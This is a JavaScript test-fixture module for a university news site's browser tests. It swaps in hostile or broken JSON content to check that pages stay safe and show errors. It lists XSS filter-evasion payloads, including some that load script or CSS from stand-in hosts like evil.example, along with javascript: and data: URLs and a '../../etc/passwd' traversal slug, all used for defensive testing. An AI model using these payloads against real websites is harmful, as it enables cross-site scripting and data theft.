// Hostile content: what a careless or malicious editor, a broken export or a
// tampered CDN could put in the JSON. Each case replaces one content file;
// the browser test loads it and checks the page is safe and says something
// sensible. Any payload that runs calls alert() or sets window.__xss: the
// canaries that must stay untouched.

import { readFileSync } from 'node:fs';
import { join, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';

const REPO = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
export const SLUG = 'usst-medical-equipment-centre';
export const ARTICLE = `/content/articles/${SLUG}.json`;
export const SITE = '/content/site.json';
export const INDEX = '/content/list/front.json';

/** The seed article in its published form (related links resolved). */
export function publishedSeed() {
  const article = JSON.parse(readFileSync(join(REPO, 'dist', ARTICLE), 'utf8'));
  return structuredClone(article);
}

export function publishedSite() {
  return JSON.parse(readFileSync(join(REPO, 'dist', SITE), 'utf8'));
}

// Shapes from the OWASP XSS filter evasion cheat sheet, each aimed at the canaries.
export const SCRIPT_PAYLOADS = [
  '<script>window.__xss=1;alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror="window.__xss=1;alert(1)">',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x:alert(alt) onerror=eval(src) alt=xss>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";body{display:none}</style>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
];

// Links and picture sources that must never become an href or src.
export const UNSAFE_URLS = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  'https:evil.example',
  'livescript:alert(1)',
];

/** Every string field of an article set to `text` (one body block of each kind). */
export function articleWithEverywhere(text) {
  const article = publishedSeed();
  Object.assign(article, { headline: text, section: text, author: text, summary: text, copy_editors: [text, text] });
  article.thumbnail = { src: 'content/images/globe.svg', alt: text, width: 1200, height: 800, credit: text };
  article.lead = { image: { src: 'content/images/campus-skyline.svg', alt: text, credit: text }, caption: text };
  article.body = [
    { type: 'paragraph', text },
    { type: 'speech', photo: { src: 'content/images/speaker-portrait.svg', alt: text, credit: text }, speaker: text, role: text, caption: text },
    { type: 'figure', image: { src: 'content/images/lab-bench.svg', alt: text, credit: text }, caption: text },
    { type: 'quote', text, attribution: text },
  ];
  article.related = [{ slug: 'usst-launches-green-campus-week', headline: text }];
  return article;
}

export function siteWithEverywhere(text) {
  const site = publishedSite();
  Object.assign(site, { name: text, description: text, list_title: text });
  site.home = { label: text, href: 'https://en.usst.edu.cn/' };
  site.nav = [{ label: text, href: '/' }];
  site.footer = { heading: text, links: [{ label: text, href: 'mailto:news@example.edu' }], note: text };
  return site;
}

/**
 * An article whose every link and picture source is `url`, and a photo
 * whose copies (the content build's, in a tampered file) are at `url`.
 */
export function articleWithUrl(url) {
  const article = publishedSeed();
  article.related = [];
  article.thumbnail = { src: url, alt: 'thumbnail' };
  article.lead = { image: { src: url, alt: 'lead' }, caption: 'lead caption' };
  const copies = { stem: url, widths: [360, 720], full: url };
  article.body = [
    { type: 'paragraph', text: 'A paragraph before the pictures.' },
    { type: 'speech', photo: { src: url, alt: 'photo' }, speaker: 'Wu Jianyong', role: 'Secretary', caption: 'caption' },
    { type: 'figure', image: { src: url, alt: 'figure' }, caption: 'figure caption' },
    { type: 'figure', image: { src: 'content/images/lab-bench.svg', alt: 'copies elsewhere', copies }, caption: 'copies caption' },
  ];
  return article;
}

export function siteWithUrl(url) {
  const site = publishedSite();
  site.home = { label: 'Home', href: url };
  site.nav = [{ label: 'Bad nav', href: url }, { label: 'Good nav', href: '/' }];
  site.footer.links = [{ label: 'Bad footer', href: url }, { label: 'Good footer', href: 'https://en.usst.edu.cn/' }];
  return site;
}

const seedText = () => JSON.stringify(publishedSeed());

/** Broken documents: each must end in the error view, never a blank page. */
export function brokenArticles() {
  const without = (field) => {
    const article = publishedSeed();
    delete article[field];
    return JSON.stringify(article);
  };
  const withValue = (field, value) => JSON.stringify({ ...publishedSeed(), [field]: value });
  return [
    ['empty body', ''],
    ['whitespace', '   \n  '],
    ['truncated in the middle', seedText().slice(0, 1000)],
    ['truncated by one byte', seedText().slice(0, -1)],
    ['not JSON', 'this is not JSON'],
    ['JSON null', 'null'],
    ['JSON array', '[]'],
    ['a number', '42'],
    ['trailing garbage', `${seedText()} trailing`],
    ['invalid UTF-16 escape', seedText().replace('"headline":"', '"headline":"\\uD800')],
    ['headline a number', withValue('headline', 42)],
    ['body an object', withValue('body', {})],
    ['body a string', withValue('body', 'text')],
    ['date not a day', withValue('published', '2020-02-30')],
    ['date in another format', withValue('published', '22/11/2020')],
    ['slug with a path', withValue('slug', '../../etc/passwd')],
    ['related as bare slugs', withValue('related', ['a-b'])],
    ['missing slug', without('slug')],
    ['missing headline', without('headline')],
    ['missing body', without('body')],
    ['missing summary', without('summary')],
    ['a paragraph without text', withValue('body', [{ type: 'paragraph' }])],
    ['a speech without speaker', withValue('body', [{ type: 'speech', caption: 'c' }])],
    ['a block without type', withValue('body', [{ text: 'no type' }])],
    ['deeply nested', '['.repeat(100000) + ']'.repeat(100000)],
  ];
}

/** Odd but valid documents: each must render. [name, article, a text
 * the page must show (or null), and what the dateline must read (null:
 * no dateline; left out: not checked)]. */
export function oddArticles() {
  const bigParagraph = 'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(1755).slice(0, 100000);
  const longWord = 'x'.repeat(100000);
  const tenMegabytes = () => {
    const article = publishedSeed();
    const paragraph = 'The ceremony continued with reports from every school of the university. '.repeat(14);
    article.body = Array.from({ length: Math.ceil(10_000_000 / (paragraph.length + 30)) }, () => ({ type: 'paragraph', text: paragraph }));
    return article;
  };
  return [
    ['a 100,000-character paragraph', { ...publishedSeed(), body: [{ type: 'paragraph', text: bigParagraph }] }, bigParagraph.slice(0, 60)],
    ['a 100,000-character word', { ...publishedSeed(), body: [{ type: 'paragraph', text: longWord }] }, longWord.slice(0, 60)],
    ['a 10 MB article', tenMegabytes(), 'The ceremony continued'],
    // A word wider than the phone where the article's parts size to their
    // words (the speech card, the "who spoke" list beside it).
    ['a 200-character word as a speaker\'s name and role', { ...publishedSeed(), body: [{ type: 'speech', speaker: `Pneumono${'x'.repeat(192)}`, role: `Ultramicro${'y'.repeat(190)}`, caption: 'A speech.' }] }, `Pneumono${'x'.repeat(52)}`],
    ['right-to-left text', { ...publishedSeed(), headline: 'جامعة شنغهاي للعلوم والتكنولوجيا تفتتح مركزاً جديداً', body: [{ type: 'paragraph', text: 'אוניברסיטת שנגחאי למדע וטכנולוגיה פתחה מרכז חדש.' }] }, 'אוניברסיטת שנגחאי'],
    ['Chinese, Japanese and Korean text', { ...publishedSeed(), headline: '上海理工大学高端医疗装备创新中心揭牌', body: [{ type: 'paragraph', text: '上海理工大学。東京大学。서울대학교.' }] }, '上海理工大学。東京大学。서울대학교.'],
    ['emoji and combining marks', { ...publishedSeed(), headline: 'Graduation 🎓👩🏽‍🔬 Ceremony', body: [{ type: 'paragraph', text: 'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇ 👨‍👩‍👧‍👦 🇨🇳' }] }, '👨‍👩‍👧‍👦'],
    ['unknown block types among known ones', { ...publishedSeed(), body: [{ type: 'paragraph', text: 'kept' }, { type: 'video', src: 'https://example.edu/v.mp4' }, { type: 'html', html: '<script>alert(1)</script>' }, { type: 'paragraph', text: 'also kept' }] }, 'also kept'],
    ['extra unknown fields', { ...publishedSeed(), tracking: { pixel: 'https://evil.example/p.gif' }, body: [{ type: 'paragraph', text: 'fine', onclick: 'alert(1)' }] }, 'fine'],
    ['empty strings everywhere', { ...publishedSeed(), headline: '', summary: '', author: '', section: '', copy_editors: [' '], body: [{ type: 'paragraph', text: '' }] }, null],
    ['no date, author or copy editors (the archive\'s early pages)', (({ published, author, authors, copy_editors, ...rest }) => rest)(publishedSeed()), 'Over 159 cooperative projects', null],
    ['one author as a string, as editors write it', (({ author, authors, ...rest }) => ({ ...rest, author: '张柳' }))(publishedSeed()), 'Over 159 cooperative projects', 'November 22, 2020 | By 张柳 | Copyedited by William, Zhang Liu'],
  ];
}
